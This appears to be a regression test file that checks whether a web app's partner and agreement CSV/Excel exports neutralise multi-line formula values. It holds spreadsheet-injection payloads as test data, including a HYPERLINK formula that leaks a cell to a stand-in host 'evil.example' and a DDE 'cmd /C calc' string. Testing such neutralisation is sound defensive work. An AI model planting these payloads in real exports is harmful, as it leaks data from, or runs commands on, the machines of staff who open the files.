import ExcelJS from "exceljs";
import Papa from "papaparse";
import { beforeAll, describe, expect, it, vi } from "vitest";
import { GET as agreementExport } from "@/app/api/agreements/export/route";
import { GET as partnerExport } from "@/app/api/partners/export/route";
import { createAgreementAction } from "@/lib/agreements/actions";
import { actAs } from "@/tests/helpers/act-as";
import { agreementInput, createTestPartner } from "@/tests/helpers/agreement-factories";
import { createUser, type TestUser } from "@/tests/helpers/factories";
import { createPartner } from "@/tests/helpers/partner-factories";

vi.mock("@/lib/auth/current-user", () => import("@/tests/helpers/act-as").then((m) => m.currentUserModule));

/**
 * Issue 15, finding 1: a value that starts a formula and holds a line break left the partner and
 * agreement exports unescaped (papaparse's check does not cross a line break). A coordinator can
 * plant one in an agreement title; the office opens the export in a spreadsheet. Through the real
 * export endpoints, in CSV and Excel.
 */

const FORMULA = '=HYPERLINK("http://evil.example/?leak="&B2,"Open the signed copy")';
const PLANTED_TITLE = `${FORMULA}\nSigned copy attached`;
const LATER_LINE = `Agreement with the faculty\n@SUM(1+1)*cmd|' /C calc'!A0`;

let officer: TestUser;
let coordinator: TestUser;

beforeAll(async () => {
  officer = await createUser({ role: "OFFICER" });
  coordinator = await createUser({ role: "COORDINATOR" });
  const partner = await createTestPartner({ name: "Uppsala University", countryCode: "SE" });
  actAs(coordinator);
  for (const title of [PLANTED_TITLE, LATER_LINE]) {
    const created = await createAgreementAction(agreementInput({ unitId: coordinator.unitId!, partnerIds: [partner.id], title }) as never);
    expect(created).toMatchObject({ ok: true });
  }
  await createPartner({ name: "Planted Partner", description: `Exchange partner\n  -1+2`, internalNotes: `${FORMULA}\nfrom the import` });
});

async function download(route: typeof partnerExport, path: string) {
  const response = await route(new Request(`http://localhost:3000${path}`), undefined);
  expect(response.status).toBe(200);
  return response;
}

async function csvRows(route: typeof partnerExport, path: string): Promise<Record<string, string>[]> {
  const text = await (await download(route, path)).text();
  return Papa.parse<Record<string, string>>(text.replace(/^\uFEFF/, ""), { header: true, skipEmptyLines: true }).data;
}

async function xlsxColumn(route: typeof partnerExport, path: string, header: string): Promise<unknown[]> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(Buffer.from(await (await download(route, path)).arrayBuffer()) as unknown as ArrayBuffer);
  const sheet = workbook.worksheets[0]!;
  const headers = (sheet.getRow(1).values as unknown[]).slice(1);
  const column = headers.indexOf(header) + 1;
  const values: unknown[] = [];
  sheet.eachRow((row, number) => {
    if (number > 1) values.push(row.getCell(column).value);
  });
  return values;
}

describe("exports neutralize formulas on every line of a value", () => {
  it("agreement export, CSV: a coordinator-planted multi-line title reads back as text", async () => {
    for (const user of [officer, coordinator]) {
      actAs(user);
      const titles = (await csvRows(agreementExport, "/api/agreements/export?format=csv")).map((row) => row.Title);
      expect(titles.sort()).toEqual([`'${LATER_LINE}`, `'${PLANTED_TITLE}`].sort());
    }
  });

  it("agreement export, Excel: the same titles are plain text with the apostrophe", async () => {
    actAs(officer);
    const titles = await xlsxColumn(agreementExport, "/api/agreements/export?format=xlsx", "Title");
    expect(titles.sort()).toEqual([`'${LATER_LINE}`, `'${PLANTED_TITLE}`].sort());
  });

  it("partner export, CSV and Excel: multi-line description and notes are neutralized", async () => {
    actAs(officer);
    const [row] = (await csvRows(partnerExport, "/api/partners/export?format=csv&q=Planted")).filter((r) => r.name === "Planted Partner");
    expect(row).toMatchObject({ description: "'Exchange partner\n  -1+2", internalNotes: `'${FORMULA}\nfrom the import` });
    const notes = await xlsxColumn(partnerExport, "/api/partners/export?format=xlsx&q=Planted", "internalNotes");
    expect(notes).toContain(`'${FORMULA}\nfrom the import`);
  });
});
